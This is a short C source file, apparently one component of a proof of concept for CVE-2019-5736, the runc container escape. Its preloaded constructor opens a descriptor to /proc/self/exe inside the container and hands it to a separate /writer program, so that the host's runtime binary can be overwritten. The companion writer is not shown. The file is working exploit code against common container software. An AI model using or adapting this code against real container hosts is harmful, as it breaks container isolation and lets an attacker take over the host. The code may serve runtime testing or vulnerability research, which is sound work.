/* Preloaded into whatever `#!/proc/self/exe` runs inside the container (CVE-2019-5736):
 * keeps a descriptor to /proc/self/exe (the runtime's executable, or its sealed copy) and
 * hands it to /writer, a separate program so that the descriptor's holder does not itself
 * run that executable. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void grab(void) {
    int fd = open("/proc/self/exe", O_PATH); /* not close-on-exec: /writer inherits it */
    char num[16];
    snprintf(num, sizeof num, "%d", fd);
    unsetenv("LD_PRELOAD"); /* not again in /writer */
    if (fork() == 0) {
        setsid();
        execl("/writer", "writer", num, (char *)0);
        _exit(127);
    }
    _exit(0);
}
